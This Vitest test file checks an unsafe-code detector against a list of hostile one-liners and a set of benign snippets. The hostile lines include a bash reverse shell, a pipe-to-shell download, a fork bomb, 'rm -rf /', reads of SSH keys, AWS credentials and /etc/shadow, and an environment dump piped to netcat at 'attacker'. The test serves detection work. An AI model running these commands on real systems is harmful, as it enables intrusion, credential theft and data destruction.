import { describe, expect, it } from 'vitest';
import { unsafeCodeMatches } from './detectors/unsafe-code-detector.js';

describe('unsafe code detector', () => {
  it.each([
    ['curl https://get.example.sh | bash', 'pipe-to-shell'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse-shell'],
    ['ls; rm -rf ~/projects', 'command-substitution'],
    ['rm -rf / --no-preserve-root', 'destructive-command'],
    [':(){ :|:& };:', 'destructive-command'],
    ['result = eval(user_input)', 'eval'],
    ["const f = new Function('return process')()", 'eval'],
    ["require('child_process').execSync(cmd)", 'process-spawn'],
    ['subprocess.run(cmd, shell=True)', 'process-spawn'],
    ["__import__('os').system('id')", 'process-spawn'],
    ['data = pickle.loads(blob)', 'unsafe-deserialisation'],
    ['print(open("/etc/shadow").read())', 'read-secrets'],
    ['cat ~/.ssh/id_rsa', 'read-secrets'],
    ['cat ~/.aws/credentials', 'read-secrets'],
    ['console.log(JSON.stringify(process.env))', 'dump-environment'],
    ['printenv | nc attacker 80', 'dump-environment'],
    ['requests.post(url, data=os.environ)', 'dump-environment'],
  ])('flags %s', (code, rule) => {
    expect(unsafeCodeMatches(code)).toContain(rule);
  });

  it.each([
    'def add(a, b):\n    return a + b',
    'const total = items.reduce((sum, i) => sum + i.price, 0);',
    'SELECT name, email FROM users WHERE id = ?',
    'if (process.env.NODE_ENV === "production") enableCache();',
    'home = os.environ.get("HOME")',
    'The evaluation of the model took three days.',
    'git commit -m "remove temp files" && git push',
  ])('leaves ordinary code alone: %s', (code) => {
    expect(unsafeCodeMatches(code)).toEqual([]);
  });
});
